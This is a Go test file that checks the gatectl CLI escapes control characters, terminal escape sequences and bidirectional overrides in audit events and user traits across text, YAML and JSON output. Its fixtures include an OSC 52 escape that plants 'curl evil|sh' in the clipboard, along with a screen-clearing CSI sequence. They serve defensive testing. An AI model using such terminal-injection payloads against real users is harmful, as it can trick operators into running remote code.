package main

import (
	"bytes"
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"google.golang.org/protobuf/types/known/structpb"
	"google.golang.org/protobuf/types/known/timestamppb"

	typesv1 "github.com/gatehouse/gatehouse/proto/gatehouse/types/v1"
)

// TestOutputEscapesControlCharacters: what identity providers and SCIM
// clients wrote (an audit event's user and fields, a user's traits) reaches
// the operator's terminal with its control characters and bidirectional
// overrides as visible \uXXXX escapes, in text, YAML and JSON, and the JSON
// still decodes to the same values.
func TestOutputEscapesControlCharacters(t *testing.T) {
	t.Parallel()
	s, idFile := adminServer(t)
	ctx := context.Background()
	const (
		osc52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x07" // writes "curl evil|sh" to the clipboard
		csi   = "\u009b2J"                       // C1 CSI: clears the screen on some terminals
		rlo   = "\u202e"
	)
	err := s.Auth.Services().Events.Emit(ctx, &typesv1.AuditEvent{
		Type: "saml.login", User: "eve" + osc52, Outcome: "denied", Resource: "saml/okta" + rlo,
		Message: "refused" + csi, Fields: map[string]string{"name_id": "eve" + osc52, "x": "a\rb\x00"},
		Time: timestamppb.New(s.Clock.Now()),
	})
	require.NoError(t, err)
	// A user's traits are not checked for control characters (an operator
	// may write any; SAML's are filtered at the boundary, lib/auth/saml).
	_, err = s.Auth.Services().Users.CreateUser(ctx, &typesv1.User{
		Metadata: &typesv1.Metadata{Name: "eve"},
		Spec: &typesv1.UserSpec{Traits: map[string]*structpb.ListValue{
			"display": {Values: []*structpb.Value{structpb.NewStringValue("bye" + osc52 + csi + rlo)}},
		}},
	})
	require.NoError(t, err)

	gatectl := func(args ...string) string {
		t.Helper()
		var out, errOut bytes.Buffer
		code := run(ctx, append([]string{"--auth-server", s.Addr, "--identity", idFile}, args...), &out, &errOut)
		require.Equal(t, 0, code, errOut.String())
		return out.String()
	}
	for _, args := range [][]string{
		{"events", "ls", "--since", "1000000h"},
		{"--format", "yaml", "events", "ls", "--since", "1000000h"},
		{"--format", "json", "events", "ls", "--since", "1000000h"},
		{"--format", "yaml", "get", "users"},
		{"--format", "json", "get", "user/eve"},
	} {
		out := gatectl(args...)
		name := strings.Join(args, " ")
		for _, bad := range []string{"\x1b", "\x07", "\u009b", "\u202e", "\r", "\x00"} {
			require.NotContains(t, out, bad, "%s printed %q raw:\n%s", name, bad, out)
		}
		require.Contains(t, out, "Y3VybCBldmlsfHNo", name)
		if args[0] == "--format" && args[1] == "json" {
			require.True(t, json.Valid([]byte(out)), "%s: %s", name, out)
		}
	}
	// The JSON decodes to the values as stored: the escapes are JSON's own.
	var user struct {
		Spec struct {
			Traits map[string][]string `json:"traits"`
		} `json:"spec"`
	}
	require.NoError(t, json.Unmarshal([]byte(gatectl("--format", "json", "get", "user/eve")), &user))
	require.Equal(t, []string{"bye" + osc52 + csi + rlo}, user.Spec.Traits["display"])
	require.Contains(t, gatectl("events", "ls", "--since", "1000000h"), `eve\u001b]52;c;Y3VybCBldmlsfHNo\u0007`)
}
